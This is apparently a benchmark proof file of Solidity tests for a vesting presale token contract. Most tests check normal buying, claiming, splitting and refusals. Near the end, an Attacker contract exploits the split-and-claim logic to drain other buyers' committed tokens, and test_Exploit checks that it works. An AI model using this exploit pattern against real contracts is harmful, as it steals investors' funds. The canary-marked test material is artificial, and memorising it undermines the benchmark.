// SPDX-License-Identifier: MIT
// canary: assay-canary-e2493a19-8e36-4515-8545-fdcae831879d
pragma solidity 0.6.12;

import "./PresaleToken.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    PresaleToken internal coin;
    Attacker internal mallory;
    address internal alice;
    address internal bob;
    uint256 internal aliceId;

    function setUp() public {
        vm.warp(1700000000);
        alice = vm.addr(0xA11CE);
        bob = vm.addr(0xB0B);
        coin = new PresaleToken(payable(vm.addr(0x7EA5)), 100000 ether, 50000 ether, 30);
        vm.deal(alice, 20 ether);
        vm.prank(alice);
        aliceId = coin.buy{value: 20 ether}();

        mallory = new Attacker(coin);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        uint256 start = block.timestamp;
        require(coin.totalCommitted() == 20000 ether, "committed");
        vm.deal(bob, 60 ether);
        vm.prank(bob);
        vm.expectRevert();
        coin.buy{value: 31 ether}();

        vm.warp(start + 90 days);
        require(coin.pendingTokens(aliceId) == 5000 ether, "a quarter vested");
        vm.prank(alice);
        vm.expectRevert();
        coin.claim(aliceId, 5001 ether);
        vm.prank(bob);
        vm.expectRevert();
        coin.claim(aliceId, 1 ether);
        vm.prank(alice);
        coin.claim(aliceId, 1000 ether);
        require(coin.balanceOf(alice) == 1000 ether, "alice claimed");

        vm.prank(alice);
        vm.expectRevert();
        coin.split(aliceId, bob, 15001 ether);
        vm.prank(alice);
        uint256 bobId = coin.split(aliceId, bob, 8000 ether);
        require(coin.planLength() == 2, "two plans");
        require(coin.pendingTokens(aliceId) == 2000 ether, "a quarter of 12000 less 1000");
        require(coin.pendingTokens(bobId) == 0, "starts now");

        vm.warp(start + 360 days);
        vm.prank(alice);
        coin.claim(aliceId, 11000 ether);
        vm.prank(bob);
        coin.claim(bobId, 8000 ether);
        require(coin.balanceOf(alice) == 12000 ether && coin.balanceOf(bob) == 8000 ether, "all claimed");
        require(coin.totalCommitted() == 0, "nothing committed");

        vm.prank(alice);
        coin.transfer(bob, 500 ether);
        vm.prank(bob);
        coin.approve(alice, 300 ether);
        vm.prank(alice);
        coin.transferFrom(bob, alice, 300 ether);
        require(coin.balanceOf(alice) == 11800 ether, "moved");
        vm.prank(bob);
        coin.increaseAllowance(alice, 5);
        vm.prank(bob);
        coin.decreaseAllowance(alice, 5);
        vm.prank(alice);
        vm.expectRevert();
        coin.transferFrom(bob, alice, 1);

        coin.sendEther();
        require(coin.devaddr().balance == 20 ether, "proceeds");
    }

    // What is refused, each from the state after setUp().

    /// Plans are their buyers', and go to somebody while there is something to split off.
    function test_RefusesSplits() public {
        vm.prank(bob);
        vm.expectRevert("split: not yours");
        coin.split(aliceId, bob, 1);
        vm.prank(bob);
        vm.expectRevert("claim: not yours");
        coin.claim(aliceId, 0);
        vm.prank(alice);
        vm.expectRevert("claim: not vested");
        coin.claim(aliceId, 1);
        vm.prank(alice);
        vm.expectRevert("split: too much");
        coin.split(aliceId, bob, 20000 ether + 1);
        vm.prank(alice);
        vm.expectRevert("split: to nobody");
        coin.split(aliceId, address(0), 1);
        vm.prank(alice);
        vm.expectRevert("split: nothing");
        coin.split(aliceId, bob, 0);
        vm.warp(block.timestamp + 360 days);
        vm.prank(alice);
        vm.expectRevert("split: all vested");
        coin.split(aliceId, bob, 1);
    }

    /// What is claimed is not split off any more.
    function test_RefusesWhatIsClaimed() public {
        vm.warp(block.timestamp + 90 days);
        vm.prank(alice);
        coin.claim(aliceId, 5000 ether);
        vm.prank(alice);
        coin.split(aliceId, bob, 15000 ether);
        vm.prank(alice);
        vm.expectRevert();
        coin.split(aliceId, bob, 1);
    }

    /// The sale ends, and nothing is not sold; nothing goes to nobody.
    function test_RefusesSales() public {
        vm.deal(bob, 1 ether);
        vm.prank(bob);
        vm.expectRevert("buy: no ether");
        coin.buy();
        vm.warp(block.timestamp + 30 days);
        vm.prank(bob);
        vm.expectRevert("buy: sale is over");
        coin.buy{value: 1 ether}();
        vm.prank(alice);
        vm.expectRevert("ERC20: transfer to the zero address");
        coin.transfer(address(0), 0);
    }

    /// Sums that no number holds, and a treasury that takes no ether.
    function test_RefusesNumbers() public {
        try new PresaleToken(payable(address(1)), uint256(-1), 1, 30) {
            revert("a supply that wraps");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("SafeMath: addition overflow"), "add");
        }
        try new PresaleToken(payable(address(1)), 1, 1, uint256(-1)) {
            revert("a sale that wraps");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("SafeMath: multiplication overflow"), "mul");
        }
        PresaleToken other = new PresaleToken(payable(address(coin)), 1, 1, 1);
        vm.expectRevert("sendEther: dev refused");
        other.sendEther();
    }

    function exploit() public {
        mallory.begin();
        vm.warp(block.timestamp + 180 days);
        mallory.finish();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(mallory));
        exploit();
        require(coin.balanceOf(address(mallory)) >= before + 20000 ether, "no gain");
    }

    function token() public view returns (address) {
        return address(coin);
    }

    function target() public view returns (address) {
        return address(coin);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PresaleToken internal coin;
    uint256 internal id;

    constructor(PresaleToken coin_) public {
        coin = coin_;
    }

    function begin() external {
        id = coin.buy{value: 1 ether}();
    }

    function finish() external {
        // the vested half, then the other half out of the plan
        coin.claim(id, 500 ether);
        coin.split(id, address(this), 500 ether);
        coin.claim(id, coin.totalCommitted());
    }
}
